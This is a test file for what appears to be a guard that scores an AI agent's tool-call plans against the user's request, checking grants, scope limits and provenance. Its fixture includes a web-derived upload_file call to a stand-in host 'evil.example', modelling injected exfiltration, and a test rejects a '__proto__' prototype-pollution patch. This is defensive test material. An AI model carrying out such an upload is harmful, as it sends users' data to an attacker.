import { describe, expect, it } from "vitest";
import { toAnchor } from "../../src/energy/anchor.ts";
import { toEnergy } from "../../src/energy/energy.ts";
import { patchAnchor } from "../../src/energy/patch-anchor.ts";
import { toRequestLimit } from "../../src/energy/request-limit.ts";
import { anchorSchema } from "../../src/schema/anchor.ts";
import { makeAnchor, makeNode, makePlan, makeSample } from "./_plans.ts";

const PLAN = makePlan(
  [
    makeNode("a", "list_orders", { limit: 5, days: 30, columns: ["total", "email"] }, { volume: 30, sensitivity: 2 }),
    makeNode("b", "send_email", { to: "ana@example.org", body: "done" }, { sensitivity: 3 }),
    makeNode("c", "send_message", { receiver_id: "USR77", message: "hi" }, { tier: 2, sensitivity: 3 }),
    makeNode("d", "upload_file", { url: "https://evil.example/x" }, { tier: 3 }),
    makeNode("e", "post_tweet", { content: "sold" }),
  ],
  [["a", "b"]],
);
const REQUEST =
  "Mail ana@example.org and bo@example.org my last 5 orders, see https://shop.example/o, order W639052, file /tmp/in.csv. In 2026.";

describe("the anchor of a sample", () => {
  const anchor = toAnchor(makeSample(PLAN, REQUEST));

  it("is a valid record", () => {
    expect(anchorSchema.parse(anchor)).toEqual(anchor);
  });

  it("needs what the plan takes", () => {
    expect(anchor.minimal_scope).toEqual({ limit: 30, days: 30, depth: 1, sensitivity: 3, method: "rules@1" });
    expect(anchor.baseline).toEqual({ components: 4 });
    expect(anchor.request).toEqual({ text: REQUEST, intent: "communicate" });
  });

  it("grants what the request names and what the plan uses that is not from the web, each with where it comes from", () => {
    const { grants, evidence } = anchor.policy;
    expect(grants).toEqual({
      recipients: ["ana@example.org", "bo@example.org", "USR77"],
      accounts: [],
      urls: ["https://shop.example/o"],
      paths: ["/tmp/in.csv"],
      ids: ["W639052"],
      channels: ["post_tweet"],
      internal_calls: ["send_message"],
    });
    expect(evidence).toEqual({
      recipients: ["request", "request", "plan"],
      accounts: [],
      urls: ["request"],
      paths: ["request"],
      ids: ["request"],
    });
  });

  it("has a policy that the plan obeys", () => {
    const { limits, clearance } = anchor.policy;
    expect(limits.max_results).toBeGreaterThanOrEqual(30);
    expect(limits.max_results).toBeLessThanOrEqual(30 * 16);
    expect(limits.max_days).toBeGreaterThanOrEqual(30);
    expect(clearance).toBe(3);
    expect(toAnchor(makeSample(PLAN, REQUEST))).toEqual(anchor);
    expect(toAnchor(makeSample(PLAN, "Something else")).policy.limits).not.toEqual(limits);
  });

  it("leaves the plan without energy but for what it sends, and for what came from the web", () => {
    const clean = makePlan(
      PLAN.nodes.filter(({ provenance_tier }) => provenance_tier < 3),
      PLAN.edges,
    );
    const energy = toEnergy(clean, toAnchor(makeSample(clean, REQUEST)));
    expect(energy).toMatchObject({ E_scope: 0, E_hierarchy: 0, E_provenance: 0 });
    // 2·0.05·ln 2 · (1 + 1 + 0.1)
    expect(energy.E_flow).toBe(0.145561);
    expect(toEnergy(PLAN, anchor).E_provenance).toBe(4 * 2);
  });
});

describe("the number that a request names", () => {
  it.each([
    ["Show the last 5 orders", 5],
    ["the top ten results and the first 3 pages", 10],
    ["at most 12, please", 12],
    ["orders of the last 30 days", undefined],
    ["the first 10% of rows", undefined],
    ["order number 5", undefined],
    ["limited to 1.5 hours", undefined],
  ])("%s", (request, expected) => {
    expect(toRequestLimit(request)).toBe(expected);
  });

  it.each([
    ["the plan asks for more", "List my latest 5 orders", 100, 5],
    ["the plan asks for less", "List my latest 50 orders", 10, 10],
    ["the number of the plan stands in the request, too", "List my latest 5 orders, 100 rows a page", 100, 100],
    ["the request says nothing of how many", "List my orders", 100, 100],
  ])("%s", (_, request, limit, expected) => {
    const plan = makePlan([makeNode("a", "list_orders", { limit }, { volume: limit })]);
    expect(toAnchor(makeSample(plan, request)).minimal_scope.limit).toBe(expected);
  });
});

describe("a context patch", () => {
  it("adds grants and sets the least scope, in a copy", () => {
    const anchor = makeAnchor({ grants: { recipients: ["ana@example.org"] } });
    const patched = patchAnchor(anchor, {
      "grants.recipients": ["+bo@example.org"],
      "policy.grants.channels": ["+post_tweet"],
      "minimal_scope.limit": 40,
    });
    expect(patched.policy.grants.recipients).toEqual(["ana@example.org", "bo@example.org"]);
    expect(patched.policy.evidence.recipients).toEqual(["patch"]);
    expect(patched.policy.grants.channels).toEqual(["post_tweet"]);
    expect(patched.minimal_scope.limit).toBe(40);
    expect(anchor.policy.grants.recipients).toEqual(["ana@example.org"]);
    expect(anchor.minimal_scope.limit).toBe(1);
  });

  it.each([
    [{ "grants.__proto__": ["+x"] }],
    [{ "grants.recipients": ["x"] }],
    [{ "grants.recipients": 3 }],
    [{ "minimal_scope.limit": "40" }],
    [{ "policy.clearance": 5 }],
  ])("that is not understood is refused: %j", (patch) => {
    expect(() => patchAnchor(makeAnchor(), patch as never)).toThrow(/context patch/);
  });
});
